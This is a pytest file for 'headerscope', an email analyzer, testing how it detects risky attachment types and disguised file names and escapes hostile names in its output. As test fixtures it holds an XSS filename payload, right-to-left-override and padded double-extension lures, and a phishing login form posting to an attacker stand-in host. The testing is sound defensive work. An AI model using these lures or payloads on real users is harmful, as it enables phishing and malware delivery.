"""Files attached to a message: listed from their part headers (name, declared type, encoded
size, part number), risky types and disguised names raised, and hostile names shown safely."""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser

import pytest

import headerscope
from headerscope.render.html import HtmlRenderer
from headerscope.render.markdown import MarkdownRenderer
from headerscope.render.terminal import TerminalRenderer

_HEAD = ("Received: from mail.sender.example (mail.sender.example [192.0.2.10]) by mailin004.protonmail.ch\r\n"
         " with ESMTP id 4Bq; Tue, 03 Nov 2020 10:00:05 +0000\r\n"
         "From: Accounts <accounts@sender.example>\r\nTo: buyer@recipient.example\r\nSubject: Quotation\r\n"
         "Date: Tue, 03 Nov 2020 10:00:00 +0000\r\nMessage-ID: <q1@sender.example>\r\nMIME-Version: 1.0\r\n")


def _mixed(*parts: str, boundary: str = "b1") -> headerscope.Report:
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts) + f"--{boundary}--\r\n"
    raw = (_HEAD + f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n' + body).encode()
    return headerscope.analyze(raw, offline=True)


_TEXT = "Content-Type: text/plain; charset=utf-8\r\n\r\nPlease find the quotation attached."


def _ids(report: headerscope.Report) -> dict[str, str]:
    return {f.id: f.severity.value for f in report.findings if f.id.startswith("attachment.")}


def test_a_disk_image_is_listed_with_its_part_type_and_size_and_warned_about() -> None:
    """Proton's capture of an invoice lure: text in a multipart/related, then quotation.iso as
    application/octet-stream (the payload; the review's message 01)."""
    data = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\r\n"
    report = _mixed('Content-Type: multipart/related; boundary="r1"\r\n\r\n--r1\r\n'
                    "Content-Type: text/html;charset=utf-8\r\n\r\n<p>Quotation attached</p>\r\n--r1--",
                    'Content-Type: application/octet-stream; filename="quotation.iso"; name="quotation.iso"\r\n'
                    "Content-Transfer-Encoding: base64\r\n"
                    'Content-Disposition: attachment; filename="quotation.iso"; name="quotation.iso"\r\n\r\n'
                    + data.rstrip("\r\n"))
    [iso] = report.attachments
    assert (iso.position, iso.filename, iso.content_type, iso.disposition, iso.size) == (
        "2", "quotation.iso", "application/octet-stream", "attachment", len(data) - 2)
    assert iso.risk is not None and "disk image" in iso.risk and iso.spoofed is None
    assert _ids(report) == {"attachment.risky_type": "warning"}
    [finding] = [f for f in report.findings if f.id == "attachment.risky_type"]
    assert "“quotation.iso” (application/octet-stream, part 2)" in finding.title
    assert json.loads(report.to_json())["attachments"][0]["filename"] == "quotation.iso"


def test_names_are_decoded_from_rfc2231_continuations_and_rfc2047_words() -> None:
    report = _mixed(_TEXT,
                    "Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
                    " filename*0*=utf-8''Rechnung%20M%C3%A4rz;\r\n filename*1=\"_2024.pdf\"\r\n\r\n%PDF",
                    'Content-Type: application/pdf; name="=?utf-8?Q?Angebot_f=C3=BCr_Sie.pdf?="\r\n'
                    "Content-Disposition: attachment\r\n\r\n%PDF",
                    'Content-Type: application/zip; name="=?UTF-8?B?0KHRh9C10YIuemlw?="\r\n\r\nPK')
    assert [(a.position, a.filename) for a in report.attachments] == [
        ("2", "Rechnung März_2024.pdf"), ("3", "Angebot für Sie.pdf"), ("4", "Счет.zip")]
    assert _ids(report) == {}  # a PDF and a zip archive are listed plainly


def test_a_reversed_or_double_extension_is_danger_and_shown_as_it_is() -> None:
    rlo = "invoice_\u202efdp.exe"  # shown by a mail program as "invoice_exe.pdf"
    report = _mixed(_TEXT,
                    f'Content-Type: application/octet-stream; name="{rlo}"\r\nContent-Disposition: attachment\r\n\r\nMZ',
                    'Content-Type: application/pdf; name="invoice.pdf.exe"\r\n\r\nMZ',
                    'Content-Type: application/pdf; name="scan.pdf          .exe"\r\n\r\nMZ',
                    'Content-Type: application/octet-stream; name="setup.v2.exe"\r\n\r\nMZ',
                    'Content-Type: application/zip; name="statement.pdf.zip"\r\n\r\nPK')
    spoofed = [a.position for a in report.attachments if a.spoofed]
    assert spoofed == ["2", "3", "4"]
    assert "U+202E" in (report.attachments[0].spoofed or "")
    assert "spaces" in (report.attachments[2].spoofed or "")
    # A version number is no decoy; an archive named .pdf.zip hides nothing that runs.
    assert report.attachments[3].spoofed is None and report.attachments[3].risk is not None
    assert report.attachments[4].spoofed is None and report.attachments[4].risk is None
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.risky_type": "warning"}
    [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "invoice_⟨U+202E⟩fdp.exe" in danger.title and "and 2 more" in danger.title
    assert "\u202e" not in danger.title + danger.explanation
    [warning] = [f for f in report.findings if f.id == "attachment.risky_type"]
    assert "setup.v2.exe" in warning.title and "invoice" not in warning.explanation
    terminal = TerminalRenderer(width=250).render(report)
    assert "invoice_⟨U+202E⟩fdp.exe" in terminal and "\u202e" not in terminal


def test_a_risky_declared_type_without_an_extension_and_the_page_types() -> None:
    report = _mixed(_TEXT,
                    'Content-Type: application/x-msdownload; name="document"\r\n\r\nMZ',
                    'Content-Type: image/svg+xml\r\nContent-Disposition: attachment; filename="Payment_Advice.svg"\r\n\r\n<svg/>',
                    'Content-Type: application/vnd.ms-excel.sheet.macroEnabled.12; name="Q3.xlsm"\r\n\r\nPK',
                    'Content-Type: application/octet-stream; name="Notes.one"\r\n\r\nxx',
                    'Content-Type: image/png; name="logo.png"\r\nContent-Disposition: inline\r\nContent-ID: <l@x>\r\n\r\nxx')
    risks = [(a.filename, a.risk is not None) for a in report.attachments]
    assert risks == [("document", True), ("Payment_Advice.svg", True), ("Q3.xlsm", True), ("Notes.one", True),
                     ("logo.png", False)]
    assert report.attachments[-1].disposition == "inline"
    [warning] = [f for f in report.findings if f.id == "attachment.risky_type"]
    assert "and 3 more" in warning.title


def test_attached_messages_report_parts_and_bodies_are_not_listed_as_files() -> None:
    inner = "From: x@example.net\r\nSubject: reported\r\n\r\nhi"
    report = _mixed('Content-Type: multipart/alternative; boundary="a1"\r\n\r\n--a1\r\n'
                    "Content-Type: text/plain\r\n\r\nhi\r\n--a1\r\nContent-Type: text/html\r\n\r\n<p>hi</p>\r\n--a1--",
                    "Content-Type: message/rfc822\r\n\r\n" + inner,
                    'Content-Type: application/octet-stream; name="phish.eml"\r\n\r\n' + inner,
                    'Content-Type: application/pdf; name="a.pdf"\r\n\r\n%PDF')
    assert [(a.position, a.filename) for a in report.attachments] == [("4", "a.pdf")]
    assert len(report.attached) == 2


def test_a_genuine_bounce_lists_no_report_part_as_a_file() -> None:
    raw = (b"From: MAILER-DAEMON@mx.example\r\nTo: a@example.com\r\nSubject: Undelivered Mail\r\n"
           b"Date: Tue, 03 Nov 2020 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
           b'Content-Type: multipart/report; report-type=delivery-status; boundary="d"\r\n\r\n'
           b"--d\r\nContent-Type: text/plain\r\n\r\nYour mail could not be delivered.\r\n"
           b"--d\r\nContent-Type: message/delivery-status; name=\"details.txt\"\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
           b"Final-Recipient: rfc822; b@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
           b"--d\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: a@example.com\r\nSubject: hi\r\n\r\n--d--\r\n")
    report = headerscope.analyze(raw, offline=True)
    assert report.delivery_report is not None and report.attachments == ()


def test_bounds_fifty_listed_the_rest_counted_and_names_cut() -> None:
    parts = [_TEXT] + [f'Content-Type: application/pdf; name="f{n}.pdf"\r\n\r\nx' for n in range(60)]
    parts.append('Content-Type: application/pdf; name="' + "a" * 400 + '.pdf"\r\n\r\nx')
    report = _mixed(*parts)
    assert len(report.attachments) == 50 and report.attachments_unlisted == 11
    assert report.attachments[-1].filename == "f49.pdf"
    assert not report.attachments_walk_stopped  # 63 parts: the walk saw them all
    long = _mixed(_TEXT, 'Content-Type: application/pdf; name="' + "a" * 400 + '.exe"\r\n\r\nx')
    [cut] = long.attachments
    # Shortened in the middle: the end, with the real extension, stays in sight and is read.
    assert cut.filename is not None and len(cut.filename) == 200 and cut.filename.endswith("a.exe")
    assert "…" in cut.filename and cut.risk is not None
    assert "… and 11 more attachment(s), not listed." in TerminalRenderer(width=200).render(report)


def test_a_one_part_message_that_is_a_file() -> None:
    raw = (_HEAD + 'Content-Type: application/x-iso9660-image\r\nContent-Disposition: attachment; filename="scan.img"\r\n'
           "Content-Transfer-Encoding: base64\r\n\r\nQUJD\r\n").encode()
    report = headerscope.analyze(raw, offline=True)
    assert [(a.position, a.filename) for a in report.attachments] == [("1", "scan.img")]
    plain = headerscope.analyze((_HEAD + "Content-Type: text/plain\r\n\r\nhello\r\n").encode(), offline=True)
    assert plain.attachments == () and _ids(plain) == {}


class _Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.inside = False
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if ("id", "attachment-files") in attrs:
            self.inside = True
        elif self.inside:
            self.tags.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self.inside = False

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.text.append(data)


def test_hostile_names_are_escaped_in_every_format() -> None:
    name = '<img src=x onerror=alert(1)>[bold red]FAKE[/bold red]*x*\u202egpj.js'
    report = _mixed(_TEXT, f'Content-Type: application/octet-stream; name="{name}"\r\n\r\nxx')
    [entry] = report.attachments
    assert entry.filename == name and entry.spoofed is not None
    terminal = TerminalRenderer(width=300).render(report)
    assert "[bold red]FAKE[/bold red]" in terminal and "⟨U+202E⟩gpj.js" in terminal
    page = HtmlRenderer().render(report)
    cells = _Cells()
    cells.feed(page)
    assert "img" not in cells.tags
    assert any("<img src=x onerror=alert(1)>" in text for text in cells.text)
    assert "⟨U+202E⟩gpj.js" in "".join(cells.text)
    markdown = MarkdownRenderer().render(report)
    assert "\\<img src=x onerror=alert(1)\\>" in markdown and "⟨U+202E⟩" in markdown


def test_an_exchange_body_fragment_where_exchange_puts_one_is_a_notice_elsewhere_a_warning() -> None:
    """Exchange turns the HTML text after an inline image into ATT00001.htm: in a multipart/mixed
    whose first part is the text, right after the image, that is a NOTICE (V17 N10). The name
    alone is the sender's text: elsewhere, or another name in that place, stays a WARNING."""
    fragment = ('Content-Type: text/html; name="ATT00001.htm"\r\nContent-Disposition: attachment; '
                'filename="ATT00001.htm"\r\n\r\n<html><body>Regards</body></html>')
    image = 'Content-Type: image/jpeg; name="image001.jpg"\r\nContent-Disposition: inline\r\n\r\nxx'
    report = _mixed(_TEXT, image, fragment)
    placed = report.attachments[-1]
    assert placed.risk is not None and "Exchange's ATT00001.htm" in placed.risk and "sits where" in placed.risk
    assert _ids(report) == {"attachment.body_fragment": "notice"}
    [notice] = [f for f in report.findings if f.id == "attachment.body_fragment"]
    assert "ATT00001.htm" in notice.title and "part 3" in notice.title
    # The same name with no image or attachment before it, or as the first part: a warning.
    for layout in ((_TEXT, fragment), (fragment, image), (_TEXT, fragment, image)):
        assert _ids(_mixed(*layout)) == {"attachment.risky_type": "warning"}, layout
    # Another page name in Exchange's place: a warning.
    login = fragment.replace("ATT00001.htm", "Login.htm")
    assert _ids(_mixed(_TEXT, image, login)) == {"attachment.risky_type": "warning"}
    # A login page in Exchange's place under Exchange's name (verification V18 P2): what it does
    # decides, a warning; base64 does not hide it.
    import base64

    page = ('<html><body><form action="https://login.attacker.example/p.php"><input type="password" name="p">'
            '</form></body></html>')
    for body in (page, '<meta http-equiv="refresh" content="0;url=https://x.example">',
                 "<script>window.location='https://x.example'</script>"):
        credential = fragment.replace("<html><body>Regards</body></html>", body)
        report = _mixed(_TEXT, image, credential)
        assert _ids(report) == {"attachment.risky_type": "warning"}, body
        assert "which no body fragment needs" in (report.attachments[-1].risk or "")
    encoded = fragment.replace("\r\n\r\n<html><body>Regards</body></html>",
                               "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(page.encode()).decode())
    assert _ids(_mixed(_TEXT, image, encoded)) == {"attachment.risky_type": "warning"}
    # A placed fragment beside a program: both told, the program at its own level.
    both = _mixed(_TEXT, image, fragment, 'Content-Type: application/octet-stream; name="setup.exe"\r\n\r\nMZ')
    assert _ids(both) == {"attachment.body_fragment": "notice", "attachment.risky_type": "warning"}


_MZ = "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA=="


def test_a_padded_name_longer_than_the_display_bound_keeps_its_extension() -> None:
    """"Invoice.pdf", 200 spaces, ".exe" (MITRE ATT&CK T1036.007): the name was cut at 200
    characters before its extension was read, and the .exe went unseen (verification V17 N7)."""
    report = _mixed(_TEXT,
                    'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="Invoice.pdf'
                    + " " * 200 + '.exe"\r\n' + _MZ,
                    'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="Invoice_'
                    + "0" * 200 + '.exe"\r\n' + _MZ)
    padded, zeros = report.attachments
    assert padded.spoofed is not None and "spaces" in padded.spoofed and ".pdf" in padded.spoofed
    # Shown with its padding said, not 200 blanks: "Invoice.pdf ⟨200 spaces⟩ .exe".
    assert padded.filename == "Invoice.pdf ⟨200 spaces⟩ .exe"
    assert zeros.risk is not None and zeros.spoofed is None and (zeros.filename or "").endswith("000.exe")
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.risky_type": "warning"}


def test_a_risky_name_wins_over_a_declared_message_type_and_a_non_message_is_a_file() -> None:
    """Outlook saves a part under its file name: message/rfc822 named "Invoice.pdf.exe" is an .exe
    on disk. Such parts, and a ".eml" that holds no message, were listed nowhere (V17 N7)."""
    inner = "From: x@example.net\r\nTo: y@example.org\r\nSubject: fwd\r\n\r\nhi"
    report = _mixed(_TEXT,
                    'Content-Type: message/rfc822; name="Invoice.pdf.exe"\r\n'
                    'Content-Disposition: attachment; filename="Invoice.pdf.exe"\r\n' + _MZ,
                    'Content-Type: application/vnd.ms-outlook; name="Invoice.exe"\r\n'
                    'Content-Disposition: attachment; filename="Invoice.exe"\r\n' + _MZ,
                    'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="scan.eml"\r\n'
                    + _MZ,
                    'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="fwd.eml"\r\n\r\n' + inner)
    files = {a.filename: a for a in report.attachments}
    assert set(files) == {"Invoice.pdf.exe", "Invoice.exe", "scan.eml"}
    assert files["Invoice.pdf.exe"].spoofed is not None and files["Invoice.pdf.exe"].content_type == "message/rfc822"
    assert files["Invoice.exe"].risk is not None and files["scan.eml"].risk is None
    assert [a.filename for a in report.attached] == ["fwd.eml"]  # a real message stays an attached message
    assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.risky_type": "warning"}


def test_past_the_walks_bound_the_count_is_a_lower_bound_and_risky_names_are_found() -> None:
    """300 named text parts, then evil.exe: the walk stops at 300 parts. The .exe was missed and
    the count said "248 more" of 301 files (V17 N7)."""
    notes = [f'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="note{n}.txt"\r\n\r\nx'
             for n in range(300)]
    report = _mixed(_TEXT, *notes,
                    'Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n'
                    ' filename="evil.pdf.scr"\r\n' + _MZ,
                    'Content-Type: application/octet-stream; name="tool.exe"\r\n' + _MZ)
    assert len(report.attachments) == 50 and report.attachments_walk_stopped
    assert report.attachments_unlisted == 302 - 50  # 300 notes and two programs, each counted once
    [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "evil.pdf.scr" in danger.title and "past the first 300" in danger.title
    [warning] = [f for f in report.findings if f.id == "attachment.risky_type"]
    assert "tool.exe" in warning.title
    line = "at least 252 more attachment(s), not listed: the walk of the message's parts stopped at its bounds (300 parts"
    assert line in TerminalRenderer(width=400).render(report)
    assert line in MarkdownRenderer().render(report)
    assert line in HtmlRenderer().render(report).replace("&#39;", "'")
    assert json.loads(report.to_json())["attachments_walk_stopped"] is True


def test_the_types_gmail_and_defender_block_are_risky_with_true_words() -> None:
    """Gmail's blocked file types and Defender's common attachments filter (V17 N8)."""
    names = ["Order.xll", "Help.chm", "setup.msix", "tool.cpl", "Q3.xlam", "link.url", "Deck.ppsm", "Book.xlsb",
             "version.dll", "run.settingcontent-ms", "Console.msc", "fix.reg", "app.apk", "Tmpl.dotm"]
    report = _mixed(_TEXT, *(f'Content-Type: application/octet-stream; name="{n}"\r\n' + _MZ for n in names),
                    'Content-Type: application/vnd.ms-cab-compressed; name="drivers.cab"\r\n' + _MZ)
    risks = {a.filename: a.risk for a in report.attachments}
    assert all(risks[n] is not None for n in names), risks
    assert "library" in (risks["version.dll"] or "") and "runs when opened" not in (risks["version.dll"] or "")
    assert "shortcut" in (risks["link.url"] or "") and "shortcut" in (risks["run.settingcontent-ms"] or "")
    assert "macros" in (risks["Q3.xlam"] or "") and "Excel add-in" in (risks["Order.xll"] or "")
    assert "Android" in (risks["app.apk"] or "")
    assert risks["drivers.cab"] is None  # an archive: it holds files and runs none itself


# Continued RFC 2231 names as real mail writes them (verification V40 D1): the charset of piece 0
# covers the whole value, and a character's octets are split across pieces.
_SPLIT_RLO = " filename*0*=utf-8''Invoice_2026_%E2%80;\r\n filename*1*=%AEfdp.exe"
_SPLIT_NAMES = (
    # A ticket system's Russian name, "т" (D1 82) split across the pieces.
    (" filename*0*=UTF-8''%D1%83%D1%87%D0%B5%D0%B1%D0%BD%D1%8B%D0%B9%20%D0%BE%D1;\r\n"
     " filename*1*=%82%D0%BF%D1%83%D1%81%D0%BA.docx", "учебный отпуск.docx"),
    # Shift_JIS continuations (Perl MIME::EcoEncode's tests): every piece in piece 0's charset.
    (" filename*0*=Shift_JIS''%8C%E4%8C%A9%90%CF%8F%91_%8A%94%8E%AE;\r\n"
     " filename*1*=%89%EF%8E%D0%83T%83%93%83v%83%8B_2026;\r\n filename*2*=%94N5%8C%8E%95%AA.pdf",
     "御見積書_株式会社サンプル_2026年5月分.pdf"),
    # "€" over three pieces (other parsers' tests), then a piece not encoded.
    (" filename*0*=utf-8''%E2;\r\n filename*1*=%82;\r\n filename*2*=%AC;\r\n filename*3=\" rate.pdf\"", "€ rate.pdf"),
)


def test_continued_rfc2231_names_are_joined_as_octets_and_decoded_once() -> None:
    report = _mixed(_TEXT, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n"
                    + _SPLIT_RLO + "\r\n" + _MZ)
    [program] = report.attachments
    assert program.filename == "Invoice_2026_\u202efdp.exe" and program.spoofed is not None
    assert _ids(report) == {"attachment.spoofed_extension": "danger"}
    [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "Invoice_2026_⟨U+202E⟩fdp.exe" in danger.title
    for disposition, name in _SPLIT_NAMES:
        report = _mixed(_TEXT, "Content-Type: application/pdf\r\nContent-Disposition: attachment;\r\n"
                        + disposition + "\r\n\r\n%PDF")
        assert [a.filename for a in report.attachments] == [name]
        assert _ids(report) == {}


def test_past_the_walks_bound_continued_names_are_read_as_the_walk_reads_them() -> None:
    """The search past the walk's bound joins a part header's pieces as the walk does: the split
    RLO is the same danger there, and each name reads the same by both."""
    from headerscope.mime import (
        _file_name,
        _names_past_walk,
        _shown_name,
        _spoofed,
        parse_content_type,
    )

    notes = [f'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="note{n}.txt"\r\n\r\nx'
             for n in range(300)]
    report = _mixed(_TEXT, *notes, "Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n"
                    + _SPLIT_RLO + "\r\n" + _MZ)
    assert report.attachments_walk_stopped
    [danger] = [f for f in report.findings if f.id == "attachment.spoofed_extension"]
    assert "Invoice_2026_⟨U+202E⟩fdp.exe" in danger.title and "past the first 300" in danger.title
    assert "attachment.risky_type" not in _ids(report)
    variants = [_SPLIT_RLO, *(d.replace(".docx", ".exe").replace(".pdf", ".scr") for d, _ in _SPLIT_NAMES),
                # Out of order, a raw UTF-8 letter in an encoded piece, an unknown charset, no piece 0,
                # a piece given twice (both joined, in the order of their text, as Python's
                # decode_params joins them), a lone charset-encoded value.
                " filename*1*=%AEfdp.exe;\r\n filename*0*=utf-8''Invoice_%E2%80",
                " filename*0*=utf-8''Счёт_%E2%80;\r\n filename*1*=%AEfdp.exe",
                " filename*0*=x-none''%E2%80;\r\n filename*1*=%AEfdp.exe",
                " filename*1*=%E2%80;\r\n filename*2*=%AEfdp.exe",
                " filename*0*=utf-8''a_%E2%80;\r\n filename*1*=e;\r\n filename*1*=%AEfdp.ex",
                " filename*=iso-8859-1''caf%E9%81.exe"]
    for disposition in variants:
        header = "Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n" + disposition
        walked = _file_name(parse_content_type(header.partition("Disposition: ")[2])[1]["filename"])
        assert walked is not None
        _count, risky = _names_past_walk(f"\r\n--b1\r\n{header}\r\n\r\nMZ\r\n".encode(), 0)
        assert [(name, disguise) for name, _kind, disguise in risky] == [(_shown_name(walked), _spoofed(walked))], \
            disposition
    # Pieces of two parts' headers are not joined: a blank line ends a header.
    two = (b"\r\n--b1\r\nContent-Disposition: attachment; filename*0*=utf-8''a_%E2%80\r\n\r\nx\r\n"
           b"--b1\r\nContent-Disposition: attachment; filename*1*=%AEfdp.exe\r\n\r\nMZ\r\n")
    assert [(name, disguise) for name, _kind, disguise in _names_past_walk(two, 0)[1]] == [("\ufffdfdp.exe", None)]
    # A part names its file in name= and in filename= alike: one file, said once (verification V42b's
    # inputs said "invoice.pdf.exe ... and 1 more"); two parts of the same name are two.
    part = (b"--b1\r\nContent-Type: application/octet-stream; name=\"invoice.pdf.exe\"\r\n"
            b"Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n\r\nMZ\r\n")
    assert [name for name, _kind, _disguise in _names_past_walk(b"\r\n" + part, 0)[1]] == ["invoice.pdf.exe"]
    assert [name for name, _kind, _disguise in _names_past_walk(b"\r\n" + part + part, 0)[1]] == ["invoice.pdf.exe"] * 2


# Names padded past the bound of a field read (verification V41c D2), in the report's three shapes:
# a quoted name, one RFC 2231 encoded value, and continued pieces, each "invoice", spaces, ".pdf.exe".
def _padded_dispositions(spaces: int) -> dict[str, str]:
    return {
        "plain": ' filename="invoice' + " " * spaces + '.pdf.exe"',
        "token": " filename=invoice" + "_" * spaces + ".pdf.exe",
        "single": " filename*0*=utf-8''invoice" + "%20" * spaces + ".pdf.exe",
        "pieces": " filename*0*=utf-8''invoice;\r\n" + "".join(f" filename*{n}*=%20;\r\n" for n in range(1, spaces))
                  + f" filename*{spaces}*=.pdf.exe",
    }


def _python_filename(raw: bytes) -> str:
    import email
    import email.policy

    message = email.message_from_bytes(raw, policy=email.policy.compat32)
    [name] = [part.get_filename() for part in message.walk() if part.get_filename()]
    return str(name)


def test_a_name_padded_past_the_field_bound_keeps_its_real_extension() -> None:
    """The report's inputs (N1, N2, N3): the name was cut at 8,192 characters of its field and
    shown as "invoice", with no finding. Every length across the bounds (the field read whole up
    to 10,240 characters, then its first 8,192 and last 2,048) reads the .exe that Python's email
    reads, as a double extension."""
    from headerscope.mime import _extension

    # 8,170 pieces and 70,000 spaces: a part header past the walk's first 64 KB, which was cut there.
    for spaces in (700, 2900, 8170, 9000, 10_300, 70_000):
        for shape, disposition in _padded_dispositions(spaces).items():
            if shape == "pieces" and spaces > 10_300:
                continue  # as long as a header (Python's email takes seconds over so many pieces)
            part = ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n" + disposition
                    + "\r\n" + _MZ)
            body = f"--b1\r\n{_TEXT}\r\n--b1\r\n{part}\r\n--b1--\r\n"
            raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n' + body).encode()
            report = headerscope.analyze(raw, offline=True)
            [program] = report.attachments
            expected = _python_filename(raw)
            assert expected.endswith(".pdf.exe") and (program.filename or "").endswith(".pdf.exe"), (shape, spaces)
            assert _extension(program.filename or "")[1] == _extension(expected)[1] == "exe"
            assert program.risk is not None and program.spoofed is not None, (shape, spaces)
            ids = _ids(report)
            assert ids.get("attachment.spoofed_extension") == "danger", (shape, spaces, ids)
            field = len(disposition) + len("attachment;\r\n")
            # Cut (and said so, with how much was not read) exactly when the field is too long to read whole.
            assert ("attachment.padded_name" in ids) == (field > 8192 + 2048), (shape, spaces, ids)
            if field > 8192 + 2048:
                [padded] = [f for f in report.findings if f.id == "attachment.padded_name"]
                assert "characters of its header field were not read" in padded.explanation
                assert "…" in (program.filename or "")


def test_a_long_field_is_read_in_bounded_time_and_memory() -> None:
    """A header of megabytes of pieces or of one quoted name: only its two ends are read, and the
    middle searched for a bidi control by fast scans (a regex over a 50 MB quoted value took 40 s
    and gigabytes; the old cut read 8,192 characters)."""
    from headerscope.mime import _CutName, _file_name, _spoofed, parse_content_type

    pieces = "attachment;" + "".join(f" filename*{n}*=%20;" for n in range(1, 200_000)) + " filename*0*=utf-8''a"
    _, params = parse_content_type(pieces + "; filename*200000*=b.pdf.exe")
    name = _file_name(params["filename"])
    assert isinstance(name, _CutName) and name.endswith(" b.pdf.exe") and name.skipped > 4_000_000
    assert _spoofed(name) is not None
    quoted = 'attachment; filename="invoice' + " " * 5_000_000 + '.exe"; size=3'
    _, params = parse_content_type(quoted)
    name = _file_name(params["filename"])
    assert isinstance(name, _CutName) and name.startswith("invoice ") and name.endswith(" .exe")
    assert params["size"] == "3" and "blank characters before the real “.exe”" in (_spoofed(name) or "")
    # A bidi control in the middle that was not read is still found, raw or percent-encoded.
    for control in ("\u202e", "%E2%80%AE"):
        _, params = parse_content_type("attachment; filename*0*=utf-8''invoice" + "%20" * 10_000 + control
                                       + "%20" * 10_000 + "fdp.exe")
        assert "U+202E" in (_spoofed(_file_name(params["filename"]) or "") or ""), control


def test_a_piece_of_any_number_is_joined_as_pythons_email_joins_it() -> None:
    """M3: piece 99999999999999999999 was dropped (at most three digits), so the RLO that Python's
    email shows (get_filename() == 'invoice\\u202efdp.exe') went unflagged; M13, a gap, was joined."""
    for second in ("99999999999999999999", "1000", "0001", "2", "1" + "0" * 5000):
        part = ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n"
                f" filename*0*=utf-8''invoice;\r\n filename*{second}*=%E2%80%AEfdp.exe\r\n" + _MZ)
        raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
               + f"--b1\r\n{_TEXT}\r\n--b1\r\n{part}\r\n--b1--\r\n").encode()
        report = headerscope.analyze(raw, offline=True)
        [program] = report.attachments
        assert program.filename == "invoice\u202efdp.exe", second
        if len(second) < 100:  # Python refuses a number of more than 4,300 digits
            assert _python_filename(raw) == program.filename
        assert _ids(report) == {"attachment.spoofed_extension": "danger"}, second


def test_two_pieces_of_one_number_are_both_joined_as_pythons_email_joins_them() -> None:
    """Verification V43d D4: filename*1= written twice. Python's decode_params keeps both and
    sorts the pieces by (number, text), so a client built on it shows "invoice.pdfz.exe"; reading
    only the later one gave "invoice.pdf" and no finding."""
    from headerscope.mime import parse_content_type

    for header in ('attachment; filename*0="invoice"; filename*1="z.exe"; filename*1=".pdf"',
                   'attachment; filename*0="invoice"; filename*1=".pdf"; filename*1="z.exe"',
                   "attachment; filename*0*=UTF-8''invoice; filename*1*=z.exe; filename*1*=.pdf"):
        assert parse_content_type(header)[1]["filename"] == "invoice.pdfz.exe", header
    raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT
           + '\r\n--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; '
           'filename*0="invoice"; filename*1="z.exe"; filename*1=".pdf"\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b1--\r\n').encode()
    report = headerscope.analyze(raw, offline=True)
    assert [a.filename for a in report.attachments] == [_python_filename(raw)] == ["invoice.pdfz.exe"]
    assert _ids(report) == {"attachment.risky_type": "warning"}



def test_a_long_names_end_is_read_across_an_escaped_quote_or_a_paren_in_it() -> None:
    """Verification V43d D1: in a quoted name padded past the read, an escaped quote (\\") in the
    skipped middle does not end the name, and a "(" in its end is a character of it, not a
    comment: Python's get_filename() gives the ".exe" end, which is read and told."""
    for name in ('invoice.pdf' + " " * 9000 + '\\"' + " " * 3000 + ".exe",
                 'invoice.pdf' + " " * 12000 + "(.exe", 'invoice.pdf' + " " * 5000 + '\\"' + " " * 7000 + ".exe"):
        raw = (_HEAD + 'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n--b1\r\n' + _TEXT
               + '\r\n--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; '
               f'filename="{name}"\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b1--\r\n').encode()
        assert _python_filename(raw).endswith(".exe")
        report = headerscope.analyze(raw, offline=True)
        [program] = report.attachments
        assert program.filename is not None and program.filename.endswith(".exe"), ascii(name[-20:])
        assert _ids(report) == {"attachment.spoofed_extension": "danger", "attachment.padded_name": "warning"}
    # An unescaped quote (after an escaped backslash, \\\\") in the middle ends the name there.
    from headerscope.mime import parse_content_type
    cut = parse_content_type('attachment; filename="a' + " " * 9000 + '\\\\"' + " " * 3000 + '.exe"')[1]["filename"]
    assert not cut.rstrip('"').endswith(".exe")



def _whole_field_parameters(value: str) -> dict[str, str]:
    """The parameters of a field read whole, as a short one is (the plain path), whatever its length."""
    from headerscope.mime import _read_parameters, _rfc2231_value, _strip_comments

    params: dict[str, str] = {}
    pieces: dict[str, list[tuple[int, str, bool]]] = {}
    _read_parameters(";" + _strip_comments(value).partition(";")[2], params, pieces)
    return {**params, **{name: _rfc2231_value(sections) for name, sections in pieces.items()}}


